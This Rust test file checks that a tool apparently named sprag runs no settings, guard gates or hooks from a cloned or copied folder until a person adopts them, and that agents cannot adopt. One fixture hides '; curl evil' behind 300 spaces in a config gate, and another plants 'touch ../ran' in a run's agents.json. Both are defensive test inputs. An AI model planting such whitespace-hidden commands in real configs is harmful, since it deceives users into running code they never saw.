//! A folder from elsewhere: a clone, a copy, an archive. Whatever it contains, nothing in it has an
//! effect before a person agrees.

use serde_json::Value;
use sprag_testkit::{Output, Test, TestEnv};

use crate::support::SPRAG;

const GUARD: &str = "guard:\n  gates:\n    - run: sh test.sh\n";
const LINE: &str = "sprag: this folder brings settings from elsewhere. None of its settings apply \
                    until you agree: sprag adopt";

/// A repository whose guard would start a program that leaves a mark.
fn clone() -> Test {
    let test = Test::within(SPRAG, TestEnv::of_a_stranger());
    test.set("SPRAG_TEST_IDS", "")
        .file(".sprag/config.yaml", GUARD)
        .file("test.sh", "touch ../ran\nexit 1\n")
        .file("code.txt", "start\n")
        .git(&["init", "-q"])
        .git(&["add", "."])
        .git(&["commit", "-qm", "start"])
}

/// Runs a command.
fn types(test: Test, words: &[&str]) -> (Output, Test) {
    test.run(words).output()
}

/// Sends a host's event, and returns the answer.
fn hook(test: Test, event: &str) -> (Output, Test) {
    let said = format!(
        "{{\"session_id\":\"s1\",\"cwd\":\"{}\",\"hook_event_name\":\"{event}\",\"source\":\"startup\",\
         \"prompt\":\"go on\",\"tool_name\":\"Edit\",\"tool_input\":{{\"file_path\":\"code.txt\"}}}}",
        test.env.project().display()
    );
    test.stdin(&said).run(["hook", "claude"]).output()
}

fn ran(test: &Test) -> bool {
    test.env.top().join("ran").exists()
}

fn object(said: &Output) -> Value {
    serde_json::from_str(&said.stdout).unwrap_or_else(|error| panic!("{error}: {}", said.stdout))
}

#[test]
fn a_host_hook_starts_and_writes_nothing_and_says_one_line() {
    let mut test = clone();
    let before = test.env.files();
    for event in
        ["SessionStart", "UserPromptSubmit", "PreToolUse", "PostToolUse", "Stop", "SessionEnd"]
    {
        let (said, next) = hook(test, event);
        test = next;
        assert_eq!((said.exit, said.stderr.as_str()), (Some(0), ""), "{event}");
        if event == "SessionStart" {
            assert_eq!(object(&said)["systemMessage"], LINE);
        } else {
            assert_eq!(said.stdout, "", "{event}");
        }
    }
    assert_eq!(test.env.files(), before);
    assert!(!ran(&test) && !test.env.home().join(".local").exists());
}

#[test]
fn a_person_s_verbs_and_agents_verbs_are_refused() {
    let mut test = clone().file(".chipset/state/hooks/p1.json", "{}");
    let before = test.env.files();
    for words in [
        &["resume"][..],
        &["approve"],
        &["pause"],
        &["cancel"],
        &["agent", "poll", "p1"],
        &["agent", "set", "p1", "u1", "--as", "mayor"],
        &["gate", "r-7k2m"],
        &["doctor", "--fix", "--yes"],
    ] {
        let (said, next) = types(test, words);
        test = next;
        assert_eq!(said.exit, Some(3), "{words:?}: {}", said.stdout);
        assert!(said.stderr.contains("error[K0011]"), "{words:?}: {}", said.stderr);
        assert!(said.stderr.contains("`sprag adopt`"), "{words:?}: {}", said.stderr);
    }
    assert_eq!(test.env.files(), before);
    assert!(!ran(&test));
}

#[test]
fn what_is_shown_is_said_to_be_from_elsewhere() {
    let mut test = clone();
    let before = test.env.files();
    for words in [&["status"][..], &["check"], &["doctor"], &["log"]] {
        let (said, next) = types(test, words);
        test = next;
        assert_eq!(said.stderr, format!("{LINE}\n"), "{words:?}");
    }
    for words in [&["status", "--json"][..], &["check", "--json"], &["doctor", "--json"]] {
        let (said, next) = types(test, words);
        test = next;
        assert_eq!(object(&said)["belongs"], "elsewhere", "{words:?}");
    }
    assert_eq!(test.env.files(), before);
}

#[test]
fn without_a_home_nobody_is_sent_to_adopt() {
    let mut test = Test::of(SPRAG).set("HOME", "").file(".sprag/config.yaml", GUARD);
    let why = "it cannot be told whose folder this is: neither HOME nor XDG_STATE_HOME is set; set \
               one of them";
    for words in [&["resume"][..], &["adopt", "--yes"], &["agent", "set", "p1", "u1"]] {
        let (said, next) = types(test, words);
        test = next;
        assert_eq!(said.exit, Some(3), "{words:?}: {}", said.stdout);
        assert!(said.stderr.contains(why), "{words:?}: {}", said.stderr);
        assert!(!said.stderr.contains("sprag adopt"), "{words:?}: {}", said.stderr);
    }
    let (said, test) = hook(test, "SessionStart");
    let line = format!("sprag: {why}. None of its settings apply until then");
    assert_eq!(object(&said)["systemMessage"], line);
    assert_eq!(test.env.files(), [".sprag/config.yaml"]);
}

#[test]
fn to_begin_something_by_its_name_is_a_yes_and_its_commands_still_wait() {
    let flow =
        "name: Feat\ncommandName: feat\ninitialMessage: do {description}\nphases: [one.md]\n";
    let phase = "---\nid: one\nname: One\nemoji: x\ngates:\n  - run: sh test.sh\n---\nDo it.\n";
    let test = clone()
        .file(".sprag/workflows/feat/workflow.yaml", flow)
        .file(".sprag/workflows/feat/one.md", phase);
    let (said, test) = types(test, &["run", "feat", "it", "--host", "sh -c true"]);
    assert_eq!(said.exit, Some(3), "{}{}", said.stdout, said.stderr);
    assert!(!ran(&test), "{}", said.stdout);
    let (said, test) = types(test, &["status", "--json"]);
    assert_eq!(object(&said).get("belongs"), None);
    assert!(test.env.project().join(".git/sprag/id").is_file());
    assert!(test.env.read(".sprag/id").is_none());
}

#[test]
fn runs_that_came_with_it_are_no_part_of_that_yes() {
    let test = clone().file(".sprag/journal/00000000000000000001.jsonl", "{}\n");
    for words in [&["run", "Do it", "--until", "true"][..], &["init", "--yes", "--host", "claude"]]
    {
        let test = Test::within(SPRAG, TestEnv::of_a_stranger());
        let test = test.file(".sprag/journal/00000000000000000001.jsonl", "{}\n");
        let (said, _) = types(test, words);
        assert_eq!(said.exit, Some(3), "{words:?}: {}", said.stderr);
        assert!(said.stderr.contains("K0011"), "{words:?}: {}", said.stderr);
    }
    assert!(!ran(&test));
}

#[test]
fn adopting_shows_everything_whole_asks_and_then_it_counts() {
    let far = format!("sh test.sh{}; curl evil", " ".repeat(300));
    let config = format!("guard:\n  gates:\n    - run: ['sh', '-c', '{far}']\n");
    let test = clone().file(".sprag/config.yaml", &config);
    let (said, test) = types(test, &["adopt"]);
    assert_eq!(said.exit, Some(3), "no person is there to agree");
    assert_eq!(
        said.stdout.matches("sh test.sh[300 blanks]; curl evil").count(),
        2,
        "{}",
        said.stdout
    );
    assert!(said.stdout.starts_with("This folder brings settings from elsewhere."));
    assert!(said.stderr.contains("`sprag adopt --yes` does not ask"), "{}", said.stderr);
    assert!(!test.env.home().join(".local").exists());
    let (said, test) = types(test, &["status", "--json"]);
    assert_eq!(object(&said)["belongs"], "elsewhere");

    let (said, test) = types(test.file(".sprag/config.yaml", GUARD), &["adopt", "--yes"]);
    assert_eq!(said.exit, Some(0), "{}", said.stderr);
    assert!(said.stdout.contains("    sh test.sh\n"), "{}", said.stdout);
    let (_, test) = hook(test, "SessionStart");
    let (_, test) = hook(test.file("code.txt", "changed\n"), "PreToolUse");
    let (said, test) = hook(test.file("code.txt", "changed\n"), "Stop");
    assert_eq!(object(&said)["decision"], "block");
    assert!(ran(&test), "its command was shown and agreed to");
    let (said, _) = types(test, &["adopt", "--yes"]);
    assert!(said.stdout.starts_with("This folder is yours already"), "{}", said.stdout);
}

#[test]
fn an_agent_adopts_nothing() {
    let test = clone().set("CLAUDECODE", "1");
    let (said, test) = types(test, &["adopt", "--yes"]);
    assert_eq!(said.exit, Some(3));
    assert!(!test.env.home().join(".local").exists());
    let test = Test::within(SPRAG, TestEnv::of_a_stranger()).set("CLAUDECODE", "1");
    let (said, test) =
        types(test, &["agent", "set", "p1", "u1", "--title", "One", "--as", "mayor"]);
    assert_eq!(said.exit, Some(1), "{}", said.stderr);
    assert!(said.stderr.contains("`sprag adopt`"), "{}", said.stderr);
    assert_eq!(test.env.files(), Vec::<String>::new());
}

/// A project in which a run was done and proven.
fn proven() -> Test {
    let test = Test::of(SPRAG)
        .set("SPRAG_TEST_IDS", "")
        .file("code.txt", "bad\n")
        .file("test.sh", "grep -q good code.txt\n")
        .git(&["init", "-q"])
        .git(&["add", "."])
        .git(&["commit", "-qm", "start"]);
    let host = "sh -c 'cat > /dev/null; echo good > code.txt; echo Done'";
    let task = ["run", "Do it", "--until", "sh test.sh", "--host", host, "--yes"];
    let (said, test) = types(test, &task);
    assert_eq!(said.exit, Some(0), "{}{}", said.stdout, said.stderr);
    test
}

fn copied(test: &Test, to: &str) {
    let mut command = test.env.command("cp");
    assert!(command.args(["-a", ".", &format!("../{to}")]).status().unwrap().success());
}

#[test]
fn a_copy_proves_nothing_and_adopted_it_says_that_it_was_proven_elsewhere() {
    let test = proven();
    copied(&test, "copy");
    let (said, test) = types(test, &["report", "--json"]);
    assert_eq!(object(&said)["unproven"], serde_json::json!([]), "{}", said.stdout);
    let (said, test) = types(test, &["-C", "../copy", "report"]);
    assert!(said.stderr.contains("this folder is a copy of `[PROJECT]`"), "{}", said.stderr);
    assert!(
        said.stdout.contains("was done elsewhere; nothing of it was checked here"),
        "{}",
        said.stdout
    );
    let (said, test) = types(test, &["-C", "../copy", "report", "--json"]);
    assert_ne!(object(&said)["unproven"], serde_json::json!([]));
    let (said, test) = types(test, &["-C", "../copy", "adopt", "--yes"]);
    assert_eq!(said.exit, Some(0), "{}", said.stderr);
    assert!(said.stdout.contains("What was there before is in .sprag/aside-1."), "{}", said.stdout);
    let (said, test) = types(test, &["-C", "../copy", "report", "--json"]);
    assert_ne!(object(&said)["unproven"], serde_json::json!([]), "its receipts are from elsewhere");
    let (said, _) = types(test, &["report", "--json"]);
    assert_eq!(object(&said)["unproven"], serde_json::json!([]), "the original is as it was");
}

#[test]
fn a_fresh_start_puts_the_runs_aside() {
    let test = proven();
    copied(&test, "copy");
    let (said, test) = types(test, &["-C", "../copy", "adopt", "--fresh", "--yes"]);
    assert_eq!(said.exit, Some(0), "{}", said.stderr);
    let there = test.env.top().join("copy/.sprag");
    assert!(there.join("aside-1/runs").is_dir() && there.join("aside-1/journal").is_dir());
    let (said, _) = types(test, &["-C", "../copy", "report"]);
    assert_eq!(said.exit, Some(4), "{}", said.stdout);
}

#[test]
fn a_program_that_nobody_named_as_a_host_is_not_started() {
    let test = proven();
    let run = test.env.files().into_iter().find(|path| path.ends_with("agents.json")).unwrap();
    let agents = test.env.read(&run).unwrap();
    assert!(agents.contains("echo good"), "{agents}");
    let run = run.split('/').nth(2).unwrap().to_owned();
    // The host's program as an agent could write it into the file.
    let path = format!(".sprag/runs/{run}/agents.json");
    let evil = agents.replace("echo good > code.txt", "touch ../ran");
    let test = test.file(path, evil);
    let (said, test) = types(test, &["run", &run, "--yes"]);
    assert!(!ran(&test), "{}{}", said.stdout, said.stderr);
    assert_ne!(said.exit, Some(0), "{}{}", said.stdout, said.stderr);
}
